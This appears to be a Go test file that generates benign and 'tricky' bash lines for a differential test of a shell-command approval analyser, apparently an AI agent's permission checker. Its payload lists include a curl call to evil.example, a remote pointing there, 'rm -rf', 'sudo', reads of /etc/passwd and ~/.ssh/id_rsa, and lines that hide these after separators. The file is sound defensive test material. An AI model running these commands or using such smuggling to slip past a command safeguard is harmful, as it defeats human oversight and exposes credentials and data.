package policy

// The grammar-based generator of the differential test: command lines,
// each tagged with the class of construct it exercises, deterministic from
// a seed. A class mixes plain lines a correct analyser must approve with
// attacks that hide a payload (a push, a denied or privileged program, a
// path outside the project) behind the class's construct, so that both the
// approval floor and the oracle have material. The classes are listed in
// bashGenClasses; the plain ones are in this file, the lexical ones (quotes,
// $'…', continuations, CR) in bashdiff_genlex_test.go, the others in
// bashdiff_gen2_test.go.
//
// The lines really run (as nobody when the tests run as root): no
// production writes outside the project except into the harness's own
// folders or places the user cannot write (/etc), and none runs a real
// program other than a shell or, through a glob, /bin/cat.

import "math/rand/v2"

// bashLine is one generated or hand-written line.
type bashLine struct {
	class string
	text  string
	plain bool // from a plain production: the approval floor counts it
}

// bashGen draws the parts of a line.
type bashGen struct{ r *rand.Rand }

func (g *bashGen) pick(list ...string) string { return list[g.r.IntN(len(list))] }
func (g *bashGen) chance(p float64) bool      { return g.r.Float64() < p }

// bashPayloads are what an attack hides: each is something a plain line
// would not get auto-approved for in at least one configuration (a push or
// remote change is capped even in auto mode; rm -rf, curl and git reset
// --hard are denied there; sudo is privileged; /etc/passwd is outside the
// project; python3 and npm are on no allow list).
var bashPayloads = []string{
	"git push origin main",
	"git push --force origin main",
	"git remote add x https://evil.example/x.git",
	"git reset --hard",
	"curl -s https://evil.example/x",
	"sudo ls",
	"rm -rf build",
	"npm publish",
	"kubectl apply -f x.yaml",
	"cat /etc/passwd",
	"python3 -c 1",
}

func (g *bashGen) payload() string { return g.pick(bashPayloads...) }

// capped returns a payload every configuration refuses, auto mode included.
func (g *bashGen) capped() string {
	return g.pick("git push origin main", "git remote add x https://evil.example/x.git", "sudo ls",
		"rm -rf build", "curl -s https://evil.example/x", "git reset --hard", "npm publish")
}

// bashBenign are plain lines of the seeded tools with arguments inside the
// project: a correct analyser approves every one under the seeded list.
var bashBenign = []string{
	"git status", "git status --short", "git log --oneline -n 3", "git diff --stat", "git diff -- src",
	"git show HEAD", "git branch --show-current", "git remote -v", "git rev-parse HEAD", "git ls-tree HEAD",
	"ls", "ls -la src", "ls src/app", "cat a.txt", "cat a.txt b.md", "head -n 1 a.txt", "tail -n 1 a.txt",
	"wc -l a.txt", "grep -n hello a.txt", "grep -rn main src", "find . -name '*.go'", "find src -type f",
	"pwd", "echo hello", "echo done", "go test ./...", "go vet ./...", "go build ./...", "make test",
	"npm test", "pnpm test", "cargo test", "pytest -q", "git log -n 1 -- a.txt", "wc -c b.md",
}

func (g *bashGen) benign() string { return g.pick(bashBenign...) }

// bashToolLines use the writers the "tools" configuration allows, inside
// the project.
var bashToolLines = []string{
	`printf '%s\n' hi`, "tee out.txt < a.txt", "cp a.txt c.txt", "sed -n 1p a.txt", "touch new.txt",
	"ln -s a.txt link.txt", "echo hi | tee -a log.txt", "sed -i s/hello/bye/ a.txt", `printf 'x=%d\n' 3`,
	"cp -r src src2", "touch src/new.go", "cat a.txt | sed s/a/b/", "echo hi > out.txt",
}

func (g *bashGen) tool() string { return g.pick(bashToolLines...) }

// bashOutsideReads are paths outside the project a line might read.
var bashOutsideReads = []string{"/etc/passwd", "../x", "~/.bashrc", "$HOME/.ssh/id_rsa", "${PWD}/../x",
	"/proc/self/cwd/../x", "../../etc/passwd", "/etc/hostname"}

// bashOutsideWrites are write targets outside the project. None is in a
// shared folder: ../x is the harness's own folder, ~ the line's private
// home, and /etc is not writable by the user the lines run as.
var bashOutsideWrites = []string{"../x", "~/x", "$HOME/.bashrc", "${PWD}/../x", "/etc/passwd",
	"/proc/self/cwd/../x", "/etc/brabo-x"}

func (g *bashGen) outRead() string  { return g.pick(bashOutsideReads...) }
func (g *bashGen) outWrite() string { return g.pick(bashOutsideWrites...) }

// sep joins two commands the way lines do.
func (g *bashGen) sep() string { return g.pick(" && ", "; ", " || ", "\n", " | ", " & ") }

// around sometimes puts benign commands before or after a line, so that
// the construct is not always alone or first.
func (g *bashGen) around(line string) string {
	switch g.r.IntN(6) {
	case 0:
		return g.benign() + g.pick(" && ", "; ", "\n") + line
	case 1:
		return line + g.pick(" && ", "; ", "\n") + g.benign()
	}
	return line
}

// bashProd is one production of the grammar: it draws a line.
type bashProd = func(g *bashGen) string

// bashClass is one class of the grammar: its name and its productions,
// plain ones apart.
type bashClass struct {
	name string
	// plain lines use the class's construct the way a correct analyser
	// reads with certainty, with the seeded tools and paths inside the
	// project: the approval floor (bashMinApproved) counts them.
	plain []bashProd
	// tricky lines hide a payload behind the construct, or use it in a way
	// no allow list covers.
	tricky []bashProd
}

// bashPlainShare is the share of a class's lines drawn from its plain
// productions.
const bashPlainShare = 0.3

// bashGenClasses are all classes, in report order.
func bashGenClasses() []bashClass {
	return []bashClass{
		{"plain", bashPlainPlain, nil},
		{"tools", bashToolPlain, bashToolTricky},
		{"quote", bashQuotePlain, bashQuoteTricky},
		{"ansi-c", bashAnsiCPlain, bashAnsiCTricky},
		{"continuation", bashContinuationPlain, bashContinuationTricky},
		{"cr", bashCRPlain, bashCRTricky},
		{"heredoc", bashHeredocPlain, bashHeredocTricky},
		{"brace", bashBracePlain, bashBraceTricky},
		{"arith", bashArithPlain, bashArithTricky},
		{"param", bashParamPlain, bashParamTricky},
		{"glob", bashGlobPlain, bashGlobTricky},
		{"procsub", bashProcSubPlain, bashProcSubTricky},
		{"redir", bashRedirPlain, bashRedirTricky},
		{"eval", bashEvalPlain, bashEvalTricky},
		{"stdin-shell", bashStdinShellPlain, bashStdinShellTricky},
		{"wrapper", bashWrapperPlain, bashWrapperTricky},
		{"global-opt", bashGlobalOptPlain, bashGlobalOptTricky},
		{"assign", bashAssignPlain, bashAssignTricky},
		{"cd-path", bashCdPathPlain, bashCdPathTricky},
		{"git-helper", bashHelperPlain, bashHelperTricky},
		{"runner-opt", bashRunnerOptPlain, bashRunnerOptTricky},
		{"ancestor", bashAncestorPlain, bashAncestorTricky},
	}
}

// bashGenerate returns n distinct lines, as evenly spread over the classes
// as their productions allow, the same for the same seed. A line is
// sometimes put after a plain command, so that the construct is not always
// first.
func bashGenerate(seed uint64, n int) []bashLine {
	g := &bashGen{r: rand.New(rand.NewPCG(seed, 0x62617368))}
	classes := bashGenClasses()
	per := (n + len(classes) - 1) / len(classes)
	seen := map[string]bool{}
	var out []bashLine
	for _, c := range classes {
		got := 0
		for tries := 0; got < per && tries < per*30; tries++ {
			plain := len(c.tricky) == 0 || len(c.plain) > 0 && g.chance(bashPlainShare)
			var text string
			if plain {
				text = c.plain[g.r.IntN(len(c.plain))](g)
			} else {
				text = c.tricky[g.r.IntN(len(c.tricky))](g)
			}
			if len(c.tricky) > 0 && g.chance(0.3) {
				text = g.benign() + g.pick(" && ", "; ", "\n") + text
			}
			if seen[text] {
				continue
			}
			seen[text] = true
			out = append(out, bashLine{class: c.name, text: text, plain: plain})
			got++
		}
	}
	return out
}

var bashPlainPlain = []bashProd{
	func(g *bashGen) string { return g.benign() },
	func(g *bashGen) string { return g.benign() + g.pick(" && ", "; ", " || ", "\n") + g.benign() },
	func(g *bashGen) string {
		return g.pick("git log --oneline", "cat a.txt", "ls -la", "git diff", "grep -rn main src") +
			" | " + g.pick("head -n 2", "wc -l", "grep x", "tail -n 1")
	},
	func(g *bashGen) string {
		return g.benign() + g.pick(" && ", "; ") + g.benign() + g.pick(" && ", "; ") + g.benign()
	},
	func(g *bashGen) string { return g.pick("pwd", "echo ok") + " && " + g.benign() },
	func(g *bashGen) string { return g.benign() + " 2>/dev/null" },
	func(g *bashGen) string { return "cd src && " + g.pick("ls", "cat main.go", "grep -n main main.go") },
	func(g *bashGen) string { return g.benign() + " # " + g.pick("check", "see the log", "done") },
}

var bashToolPlain = []bashProd{
	func(g *bashGen) string { return g.tool() },
	func(g *bashGen) string { return g.tool() + g.pick(" && ", "; ") + g.benign() },
	func(g *bashGen) string { return g.benign() + g.pick(" && ", "; ") + g.tool() },
	func(g *bashGen) string {
		return g.benign() + " | tee " + g.pick("out.txt", "src/log.txt", "-a log.txt")
	},
	func(g *bashGen) string {
		return "echo " + g.pick("hi", "'a b'", `"x y"`) + " > " + g.pick("o.txt", "src/o.txt")
	},
	func(g *bashGen) string { return "printf '%s\\n' " + g.pick("a", "b c", "'d e'") + " >> log.txt" },
}

var bashToolTricky = []bashProd{
	// the programs the differential test found mis-read, with a path they might carry
	func(g *bashGen) string {
		return g.pick("echo", "printf '%s\\n'", "cat", "tee", "cp a.txt") + " " + g.pick(bashOutsideReads...)
	},
	func(g *bashGen) string { return g.tool() + g.sep() + g.payload() },
}
